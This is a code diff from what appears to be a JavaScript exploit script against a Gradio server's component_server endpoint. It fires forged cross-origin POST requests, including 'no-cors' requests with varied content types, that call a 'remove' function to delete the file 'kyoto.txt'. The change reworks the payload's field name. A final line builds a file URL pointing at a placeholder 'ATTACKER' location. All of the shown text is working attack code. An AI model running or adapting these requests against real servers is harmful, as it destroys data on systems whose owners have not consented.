@@ -65,12 +65,12 @@ const call = (name, more) => JSON.stringify({
     for (const type of types) {
       await take("gradio_api/component_server", {
         method: "POST", headers: { "content-type": type },
-        body: call("remove", { id: "kyoto.txt", sure: true }).replace(":1,", `:${id},`),
+        body: call("remove", { ids: '["kyoto.txt"]', sure: true }).replace(":1,", `:${id},`),
       });
     }
     await take("gradio_api/component_server/", {
       method: "POST", mode: "no-cors",
-      body: call("remove", { id: "kyoto.txt", sure: true }).replace(":1,", `:${id},`),
+      body: call("remove", { ids: '["kyoto.txt"]', sure: true }).replace(":1,", `:${id},`),
     });
   }
   const far = at + "gradio_api/file=ATTACKER/x.png";
